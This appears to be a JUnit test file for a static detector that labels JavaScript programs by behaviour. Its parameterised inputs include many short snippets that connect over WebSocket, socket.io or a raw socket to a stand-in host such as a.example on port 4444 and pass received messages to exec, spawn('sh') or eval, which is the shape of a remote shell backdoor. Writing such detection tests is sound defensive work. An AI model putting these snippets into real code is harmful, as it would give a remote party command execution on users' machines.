package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.assay.detectors.indicator.command.Trait.Kind;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Programs that run what another machine says over a connection that stays. */
class SocketsTest {
    private static List<Kind> kinds(String program) {
        String whole = "const {exec} = require('child_process');\n"
                + program.replace(
                        "WS", "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://a.example/x');");
        return CommandJudge.ofFile(whole, Language.JAVASCRIPT).stream()
                .map(Trait::kind)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WS\nws.on('message', d => exec(d.toString()));",
                "WS\nws.on('message', (data, isBinary) => { exec(String(data), (e, o) => ws.send(o)); });",
                "WS\nws.on('message', function (d) { const m = JSON.parse(d); exec(m.cmd); });",
                "WS\nws.onmessage = e => { exec(e.data); };",
                "WS\nws.addEventListener('message', async (e) => { exec(e.data) });",
                "WS\nfunction run(d) { exec(d); }\nws.on('message', run);",
                "WS\nconst run = d => { exec(`${d}`); };\nws.on('message', run);",
                "WS\nws.on('message', d => require('child_process').spawn('sh', ['-c', d]));",
                "new (require('ws'))('ws://b').x;\nnew WebSocket('ws://a.example').on('message', d => exec(d));",
                "const io = require('socket.io-client');\nconst s = io('https://a.example');\ns.on('run', c => exec(c));",
                "import { io } from 'socket.io-client';\nconst s = io('https://a.example');\ns.on('run', c => exec(c));",
                "this.ws = new WebSocket(u);\nthis.ws.on('message', d => exec(d));",
                "const c = require('net').connect(4444, h);\nconst d = net.connect(1, h);\nd.on('data', x => exec(x + ''));",
            })
    void commandsThatCome(String program) {
        assertThat(kinds(program)).containsExactly(Kind.OPENS_SHELL);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WS\nws.on('message', d => eval(d.toString()));",
                "WS\nws.onmessage = (e) => { new Function(e.data)(); };",
                "WS\nws.onmessage = e => eval(e.data)",
            })
    void programsThatCome(String program) {
        assertThat(kinds(program)).containsExactly(Kind.RUNS_DOWNLOAD);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WS\nws.on('message', d => console.log(d.toString()));\nexec('node-gyp rebuild');",
                "WS\nws.on('message', d => { log(d); exec('make'); });",
                "WS\nws.on('message', d => { const m = /a(.*)/.exec(d); });",
                "WS\nws.on('open', () => exec('git --version', (e, o) => ws.send(o)));",
                "const ws = new WebSocket('ws://localhost:8080');\nws.on('message', d => exec(d));",
                "const p = fork('x.js');\np.on('message', d => exec(d));",
                "process.stdin.on('data', d => exec(d.toString()));",
            })
    void whatIsNone(String program) {
        assertThat(kinds(program)).isEmpty();
    }

    @Test
    void manyOfThem() {
        String program =
                "const ws = new WebSocket(u);\n" + "ws.on('m', d => { const a = d; exec(a); });\n".repeat(9_000);
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> kinds(program));
    }
}
